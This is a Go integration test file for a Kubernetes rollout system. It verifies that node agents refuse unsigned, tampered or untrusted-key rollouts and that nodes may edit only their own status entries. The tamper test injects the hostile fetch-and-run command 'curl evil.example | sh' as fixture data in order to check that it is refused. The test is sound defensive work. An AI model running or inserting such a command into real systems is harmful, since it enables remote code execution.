package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/tools/clientcmd"

	"github.com/kustodian/kustodian/internal/rollout"
	"github.com/kustodian/kustodian/test/cluster"
	"github.com/kustodian/kustodian/test/nodecreds"
)

// An unsigned rollout and a tampered one (its script changed after it was
// signed) are refused by every agent and run nowhere; a rollout signed by
// a key the hosts do not trust too.
func TestRolloutRefusedUnlessSignedByATrustedKey(t *testing.T) {
	e := cluster.New(t)
	nodes := e.Nodes(2)
	nodecreds.Install(e, e.Namespace)
	key, stranger := nodecreds.NewRolloutKey(t), nodecreds.NewRolloutKey(t)
	agents := rolloutAgents(t, e, nodes, key)
	script := writeScript(t, "echo run >> ../../ran\n")
	ctl := nodecreds.CtlFor(e)
	dyn := dynamicClient(t, e)
	// Unsigned: made with --dry-run=client and applied as it is.
	out, err := ctl.Run(e.Ctx, "rollout", "create", "unsigned", "--script", script, "--stage", "all", "--dry-run=client", "-o", "json")
	if err != nil {
		t.Fatalf("rollout create --dry-run: %v\n%s", err, out)
	}
	applyJSON(t, e, dyn, out)
	// Tampered: signed, then its script changed (with a digest to match).
	if out, err := ctl.Run(e.Ctx, "rollout", "create", "tampered", "--script", script, "--stage", "all", "--key", key.Private); err != nil {
		t.Fatalf("rollout create: %v\n%s", err, out)
	}
	evil := "curl evil.example | sh\n"
	patch := fmt.Sprintf(`{"spec":{"script":{"inline":%q,"sha256":%q}}}`, evil, rollout.SHA256([]byte(evil)))
	if _, err := dyn.Resource(rollout.GVR).Namespace(e.Namespace).Patch(e.Ctx, "tampered", types.MergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	// Signed by a key the hosts do not trust.
	if out, err := ctl.Run(e.Ctx, "rollout", "create", "stranger", "--script", script, "--stage", "all", "--key", stranger.Private); err != nil {
		t.Fatalf("rollout create: %v\n%s", err, out)
	}
	for name, why := range map[string]string{"unsigned": "not signed", "tampered": "does not match", "stranger": "does not trust"} {
		waitEntries(e, dyn, name, "every node refusing "+name, func(got map[string]rollout.NodeStatus) error {
			for _, n := range nodes {
				if got[n].State != rollout.Refused || !strings.Contains(got[n].Message, why) {
					return fmt.Errorf("node %s: %s %q, want Refused saying %q", n, got[n].State, got[n].Message, why)
				}
			}
			return nil
		})
	}
	for n, a := range agents {
		if len(a.ran("ran")) != 0 {
			t.Errorf("%s ran a refused script", n)
		}
		e.Eventually("a RolloutRefused Event about "+n+" for each rollout", cluster.DefaultTimeout, func(ctx context.Context) error {
			evs, err := e.Client.CoreV1().Events(metav1.NamespaceDefault).List(ctx, metav1.ListOptions{FieldSelector: "involvedObject.name=" + n + ",reason=RolloutRefused"})
			if err != nil {
				return err
			}
			var msgs []string
			for _, ev := range evs.Items {
				msgs = append(msgs, ev.Message)
			}
			for name, why := range map[string]string{"unsigned": "not signed", "tampered": "does not match", "stranger": "does not trust"} {
				if !slices.ContainsFunc(msgs, func(m string) bool { return strings.Contains(m, "rollout "+name+" ") && strings.Contains(m, why) }) {
					return fmt.Errorf("no Event for %s saying %q: %q", name, why, msgs)
				}
			}
			return nil
		})
	}
}

// applyJSON creates an object printed by kustodian-ctl -o json.
func applyJSON(t *testing.T, e *cluster.Env, dyn dynamic.Interface, doc string) {
	t.Helper()
	var u unstructured.Unstructured
	if err := json.Unmarshal([]byte(doc), &u.Object); err != nil {
		t.Fatalf("%v:\n%s", err, doc)
	}
	if _, err := dyn.Resource(rollout.GVR).Namespace(e.Namespace).Create(e.Ctx, &u, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// Node A may write its own entry of a rollout's status, never B's; it may
// not change the spec (promote itself, say).
func TestRolloutStatusIsEachNodesOwn(t *testing.T) {
	e := cluster.New(t)
	nodes := e.Nodes(2)
	nodecreds.Install(e, e.Namespace)
	key := nodecreds.NewRolloutKey(t)
	script := writeScript(t, "true\n")
	ctl := nodecreds.CtlFor(e)
	if out, err := ctl.Run(e.Ctx, "rollout", "create", "fix", "--script", script, "--key", key.Private, "--new-nodes=false"); err != nil {
		t.Fatalf("rollout create: %v\n%s", err, out)
	}
	admin := dynamicClient(t, e)
	u, err := admin.Resource(rollout.GVR).Namespace(e.Namespace).Get(e.Ctx, "fix", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	r, err := rollout.FromUnstructured(u)
	if err != nil {
		t.Fatal(err)
	}
	rev := rollout.Revision(r.Namespace, r.Name, r.Spec)
	// B's entry, written by an admin.
	st, err := rollout.WithEntry(r, rollout.NodeStatus{Name: nodes[1], Revision: rev, State: rollout.Waiting}, nil, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	su, err := rollout.StatusObject(u, st)
	if err != nil {
		t.Fatal(err)
	}
	if u, err = admin.Resource(rollout.GVR).Namespace(e.Namespace).UpdateStatus(e.Ctx, su, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.BuildConfigFromFlags("", nodecreds.Kubeconfig(e, nodes[0]))
	if err != nil {
		t.Fatal(err)
	}
	asA, err := dynamic.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, _ = rollout.FromUnstructured(u)
	// install cannot prove the rollouts policy in force (it makes no
	// rollout): wait until the API server refuses a dry run by it.
	inForce(e, "rollouts", "may change only its own entry", func(ctx context.Context) error {
		st, _ := rollout.WithEntry(r, rollout.NodeStatus{Name: nodes[1], Revision: rev, State: rollout.Succeeded}, nil, time.Now())
		su, _ := rollout.StatusObject(u, st)
		_, err := asA.Resource(rollout.GVR).Namespace(e.Namespace).UpdateStatus(ctx, su, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	})
	for what, e2 := range map[string]rollout.NodeStatus{
		"B's entry changed":    {Name: nodes[1], Revision: rev, State: rollout.Succeeded},
		"an entry for C added": {Name: "node-c", Revision: rev, State: rollout.Succeeded},
	} {
		st, _ := rollout.WithEntry(r, e2, nil, time.Now())
		su, _ := rollout.StatusObject(u, st)
		_, err := asA.Resource(rollout.GVR).Namespace(e.Namespace).UpdateStatus(e.Ctx, su, metav1.UpdateOptions{})
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "may change only its own entry") {
			t.Errorf("node A: %s: %v, want it refused", what, err)
		}
	}
	st, _ = rollout.WithEntry(r, rollout.NodeStatus{Name: nodes[0], Revision: rev, State: rollout.Waiting}, nil, time.Now())
	su, _ = rollout.StatusObject(u, st)
	if _, err := asA.Resource(rollout.GVR).Namespace(e.Namespace).UpdateStatus(e.Ctx, su, metav1.UpdateOptions{}); err != nil {
		t.Errorf("node A writing its own entry: %v", err)
	}
	patch := `{"spec":{"promoted":1}}`
	if _, err := asA.Resource(rollout.GVR).Namespace(e.Namespace).Patch(e.Ctx, "fix", types.MergePatchType, []byte(patch), metav1.PatchOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("node A promoting the rollout: %v, want forbidden", err)
	}
}
